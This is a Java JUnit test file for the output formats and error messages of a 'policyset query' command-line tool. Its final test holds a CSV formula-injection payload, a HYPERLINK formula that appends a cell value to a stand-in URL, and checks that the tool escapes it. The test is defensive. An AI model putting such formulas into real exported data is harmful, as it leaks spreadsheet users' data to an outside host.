package org.policyset.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.policyset.core.model.RecordType;
import org.policyset.core.query.Field;
import org.policyset.core.query.Match;
import org.policyset.core.query.Query;
import org.policyset.core.query.QueryResult;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** The output formats of {@code policyset query}: parsed back, shape-checked, and its errors. */
class QueryOutputTest {

  private static final JsonMapper JSON = JsonMapper.builder().build();

  @TempDir
  Path dir;

  private static Cli query(String... args) {
    List<String> argv = new ArrayList<>(List.of("query"));
    argv.addAll(List.of(args));
    argv.add(Fixture.PATH);
    return Cli.run(argv.toArray(new String[0]));
  }

  private static List<String> names(List<Field> fields) {
    List<String> names = new ArrayList<>();
    fields.forEach(f -> names.add(f.name()));
    return names;
  }

  @ParameterizedTest
  @EnumSource(RecordType.class)
  void csvRoundTripsThroughAnRfc4180Parser(RecordType type) throws Exception {
    Cli r = query("--type", type.singular(), "--format", "csv");
    assertThat(r.exit()).isZero();
    assertThat(r.out()).contains("\r\n");
    QueryResult expected = Query.of(type).run(Fixture.dataset());
    List<Field> fields = Field.all(type);
    try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
        .parse(new StringReader(r.out()))) {
      assertThat(parser.getHeaderNames()).isEqualTo(names(fields));
      List<CSVRecord> records = parser.getRecords();
      assertThat(records).hasSize(expected.total());
      for (int i = 0; i < records.size(); i++) {
        Match m = expected.matches().get(i);
        for (Field f : fields) {
          String text = f.text(m);
          assertThat(records.get(i).get(f.name())).as("%s of %s", f.name(), m.id())
              .isEqualTo(text == null ? "" : text);
        }
      }
    }
  }

  @Test
  void csvQuotesCommasQuotesAndLineBreaks() throws Exception {
    Cli r = query("--type", "source", "--text", "day by day", "--format", "csv", "--fields", "id,title");
    assertThat(r.out()).isEqualTo("id,title\r\nsrc-news,\"Ceasefire talks, \"\"day by day\"\"\"\r\n");
    try (CSVParser parser = CSVFormat.RFC4180.parse(new StringReader(r.out()))) {
      assertThat(parser.getRecords().get(1).get(1)).isEqualTo("Ceasefire talks, \"day by day\"");
    }
  }

  @ParameterizedTest
  @EnumSource(RecordType.class)
  void jsonHasTheDocumentedShape(RecordType type) {
    Cli r = query("--type", type.singular(), "--format", "json", "--limit", "3");
    assertThat(r.exit()).isZero();
    JsonNode root = JSON.readTree(r.out());
    assertThat(fieldNames(root)).containsExactly("formatVersion", "type", "total", "fields", "results");
    assertThat(root.get("formatVersion").isInt()).isTrue();
    assertThat(root.get("formatVersion").asInt()).isEqualTo(1);
    assertThat(root.get("type").asString()).isEqualTo(type.singular());
    assertThat(root.get("total").isInt()).isTrue();
    List<String> fields = new ArrayList<>();
    root.get("fields").forEach(f -> fields.add(f.asString()));
    assertThat(fields).isEqualTo(names(Field.all(type)));
    assertThat(root.get("results").isArray()).isTrue();
    assertThat(root.get("results").size()).isEqualTo(Math.min(3, root.get("total").asInt()));
    for (JsonNode result : root.get("results")) {
      assertThat(fieldNames(result)).isEqualTo(fields);
      for (Field f : Field.all(type)) {
        JsonNode v = result.get(f.name());
        if (f.multiValued()) {
          assertThat(v.isArray()).as(f.name()).isTrue();
          v.forEach(x -> assertThat(x.isString()).isTrue());
        } else {
          assertThat(v.isString() || v.isNull()).as(f.name()).isTrue();
        }
      }
    }
  }

  @Test
  void groupedAndCountedJsonHaveTheirShapes() {
    JsonNode grouped = JSON.readTree(query("--group-by", "respondsTo", "--format", "json").out());
    assertThat(fieldNames(grouped)).containsExactly("formatVersion", "type", "total", "groupBy", "groups");
    assertThat(grouped.get("groupBy").asString()).isEqualTo("respondsTo");
    int sum = 0;
    for (JsonNode g : grouped.get("groups")) {
      assertThat(fieldNames(g)).containsExactly("key", "count");
      assertThat(g.get("key").isString() || g.get("key").isNull()).isTrue();
      assertThat(g.get("count").isInt()).isTrue();
      sum += g.get("count").asInt();
    }
    assertThat(sum).isEqualTo(grouped.get("total").asInt());
    JsonNode counted = JSON.readTree(query("--count", "--format", "json").out());
    assertThat(fieldNames(counted)).containsExactly("formatVersion", "type", "total");
    assertThat(query("--count", "--format", "jsonl").out()).isEqualTo("{\"total\":13}\n");
  }

  @Test
  void jsonLinesHoldOneResultObjectPerLine() {
    Cli r = query("--format", "jsonl");
    List<String> lines = r.out().lines().toList();
    assertThat(lines).hasSize(13);
    for (String line : lines) {
      assertThat(fieldNames(JSON.readTree(line))).isEqualTo(names(Field.all(RecordType.STANCE)));
    }
  }

  @Test
  void markdownIsATableWithEscapedPipes() {
    Cli r = query("--format", "markdown", "--fields", "id,statement");
    List<String> lines = r.out().lines().toList();
    assertThat(lines).hasSize(15).allMatch(l -> l.startsWith("| ") || l.startsWith("|---"))
        .allMatch(l -> l.endsWith("|"));
    assertThat(lines.get(1)).isEqualTo("|---|---|");
  }

  @ParameterizedTest
  @ValueSource(ints = {20, 40, 80, 100, 200})
  void tablesFitTheirWidth(int width) {
    Cli r = query("--width", String.valueOf(width), "--fields", "id,statement,holderNames,principleNames");
    assertThat(r.exit()).isZero();
    for (String line : r.out().lines().toList()) {
      if (!line.contains(" stances")) {
        int firstColumn = "council-monitoring-2025-03".length();
        assertThat(line.codePointCount(0, line.length())).isLessThanOrEqualTo(Math.max(width, firstColumn + 3 * 8));
      }
    }
    if (width <= 100) {
      assertThat(r.out()).contains("…");
    }
  }

  @Test
  void outputCanGoToAFileWrittenWhole() throws Exception {
    Path file = dir.resolve("stances.csv");
    Files.writeString(file, "old content");
    Cli r = query("--format", "csv", "-o", file.toString());
    assertThat(r.exit()).isZero();
    assertThat(r.out()).isEmpty();
    assertThat(Files.readString(file, StandardCharsets.UTF_8)).isEqualTo(query("--format", "csv").out());
    try (var files = Files.list(dir)) {
      assertThat(files).hasSize(1);
    }
    Cli bad = query("-o", file.resolve("under-a-file.csv").toString());
    assertThat(bad.exit()).isEqualTo(4);
    assertThat(bad.err()).contains("cannot write");
  }

  @Test
  void unknownIdsAreUsageErrorsWithDidYouMean() {
    Cli actor = query("--actor", "syl");
    assertThat(actor.exit()).isEqualTo(2);
    assertThat(actor.out()).isEmpty();
    assertThat(actor.err()).isEqualTo("policyset: unknown actor 'syl'; did you mean 'sy'?\n");
    Cli byName = query("--actor", "Borduria");
    assertThat(byName.exit()).isEqualTo(2);
    assertThat(byName.err()).contains("did you mean 'bd' (Borduria)?");
    Cli topic = query("--topic", "border-cesefire");
    assertThat(topic.exit()).isEqualTo(2);
    assertThat(topic.err()).contains("unknown topic 'border-cesefire'; did you mean 'border-ceasefire'?");
    Cli principle = query("--principle", "non-interferance");
    assertThat(principle.exit()).isEqualTo(2);
    assertThat(principle.err()).contains("unknown principle 'non-interferance'; did you mean 'non-interference'?");
    Cli event = query("--type", "event", "--actor", "sy", "--topic", "trade-corridor");
    assertThat(event.exit()).isEqualTo(2);
    assertThat(event.err()).contains("did you mean 'trade-corridors'?");
  }

  @Test
  void otherMistakesAreUsageErrorsToo() {
    assertUsage(query("--fields", "id,dat"), "stances have no field 'dat'; did you mean 'date'?");
    assertUsage(query("--sort", "titel:desc", "--type", "event"), "did you mean 'title'?");
    assertUsage(query("--group-by", "holder"), "did you mean 'holders'?");
    assertUsage(query("--type", "event", "--position", "supports"),
        "the position filter does not apply to events; it applies to stances");
    assertUsage(query("--position", "support"), "'support' is not one of supports, opposes");
    assertUsage(query("--event-type", "sumit", "--type", "event"), "is not one of resolution");
    assertUsage(query("--from", "2025-02-30"), "2025-02 has 28 days");
    assertUsage(query("--as-of", "2024-13"), "2024-13");
    assertUsage(query("--as-of", "June 2024"), "June 2024");
    assertUsage(query("--from", "2026", "--to", "2025"), "the date range from 2026 to 2025 is empty");
    assertUsage(query("--count", "--group-by", "position"), "--count and --group-by cannot be combined");
    assertUsage(query("--limit", "-1"), "the limit -1 is negative");
    assertUsage(query("--format", "xml"), "table, json, jsonl, csv, markdown");
    assertUsage(query("--type", "stances"), "stance, event, actor, topic, principle, source");
  }

  @Test
  void anUnreadableInputExitsThree() {
    Cli r = Cli.run("query", dir.resolve("missing").toString());
    assertThat(r.exit()).isEqualTo(3);
    assertThat(r.err()).contains("no such file or folder");
  }

  @Test
  void dataWithErrorsIsRefusedWithTheFindingsOnStderr() throws Exception {
    Path broken = Files.writeString(dir.resolve("broken.json"),
        "{\"stances\": [{\"id\": \"s\", \"holders\": [\"x\"], \"topic\": \"t\", \"position\": \"supports\","
            + " \"statement\": \"S.\", \"date\": \"2025-02-30\", \"sources\": [{\"source\": \"src\"}]}]}");
    for (String command : List.of("query", "stats")) {
      Cli r = Cli.run(command, "--format", "json", broken.toString());
      assertThat(r.exit()).as(command).isEqualTo(1);
      assertThat(r.out()).isEmpty();
      assertThat(r.err()).contains("PS207").contains(command + ": inputs have errors");
    }
    Cli export = Cli.run("export", "-o", dir.resolve("out").toString(), broken.toString());
    assertThat(export.exit()).isEqualTo(1);
    assertThat(dir.resolve("out")).doesNotExist();
  }

  @Test
  void listFieldsNamesEveryField() {
    Cli r = query("--type", "event", "--list-fields");
    assertThat(r.exit()).isZero();
    for (Field f : Field.all(RecordType.EVENT)) {
      assertThat(r.out()).contains(f.name() + " ");
    }
    assertThat(r.out()).contains("(list)");
  }

  @Test
  void helpDescribesEveryOptionAndItsValues() {
    Cli r = Cli.run("query", "--help");
    assertThat(r.exit()).isZero();
    for (String option : List.of("--type", "--actor", "--include-groups", "--topic", "--include-subtopics",
        "--principle", "--position", "--event-type", "--from", "--to", "--as-of", "--text", "--fields",
        "--sort", "--limit", "--count", "--group-by", "--format", "--output", "--width", "--list-fields")) {
      assertThat(r.out()).contains(option);
    }
    String flat = r.out().replaceAll("\\s+", " ");
    assertThat(flat)
        .contains("stance, event, actor, topic, principle, source")
        .contains("supports, opposes, welcomes, rejects, condemns, calls-for, commits-to, affirms, neutral")
        .contains("resolution, agreement, summit")
        .contains("table, json, jsonl, csv, markdown (default: table)")
        .contains("Exit codes:");
    assertThat(Cli.run("stats", "--help").out().replaceAll("\\s+", " ")).contains("text, json, markdown (default: text)");
    assertThat(Cli.run("export", "--help").out().replaceAll("\\s+", " ")).contains("csv, jsonl (default: csv)");
    assertThat(Cli.run("--help").out()).contains("query").contains("stats").contains("export");
  }

  private static void assertUsage(Cli r, String message) {
    assertThat(r.exit()).as(r.err()).isEqualTo(2);
    assertThat(r.err().replaceAll("\\s+", " ")).contains(message).doesNotContain("Exception");
  }

  private static List<String> fieldNames(JsonNode node) {
    List<String> names = new ArrayList<>();
    Iterator<String> it = node.propertyNames().iterator();
    it.forEachRemaining(names::add);
    return names;
  }

  @Test
  void csvEscapesCellsASpreadsheetWouldRunAsFormulasUnlessAskedForRaw() throws Exception {
    Path data = dir.resolve("formulas.json");
    Files.writeString(data, """
        {"actors": [{"id": "cn", "name": "=HYPERLINK(\\"http://example.invalid/?\\"&A1)", "kind": "state"},
                    {"id": "eg", "name": "@SUM(1+1)", "kind": "state"},
                    {"id": "fr", "name": "France", "kind": "state"}]}""");
    Cli escaped = Cli.run("query", "--type", "actor", "--fields", "id,name", "--format", "csv", "--",
        data.toString());
    assertThat(escaped.exit()).as(escaped.err()).isZero();
    assertThat(escaped.out()).isEqualTo("id,name\r\n"
        + "cn,\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1)\"\r\n"
        + "eg,\"'@SUM(1+1)\"\r\n"
        + "fr,France\r\n");
    Cli raw = Cli.run("query", "--type", "actor", "--fields", "id,name", "--format", "csv",
        "--csv-formulas", "raw", "--", data.toString());
    List<CSVRecord> records = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
        .parse(new StringReader(raw.out())).getRecords();
    assertThat(records.get(0).get("name")).isEqualTo("=HYPERLINK(\"http://example.invalid/?\"&A1)");
    assertThat(records.get(1).get("name")).isEqualTo("@SUM(1+1)");
    Cli json = Cli.run("query", "--type", "actor", "--fields", "id,name", "--format", "json", "--",
        data.toString());
    assertThat(json.out()).as("only CSV is escaped").contains("\"@SUM(1+1)\"");
  }
}
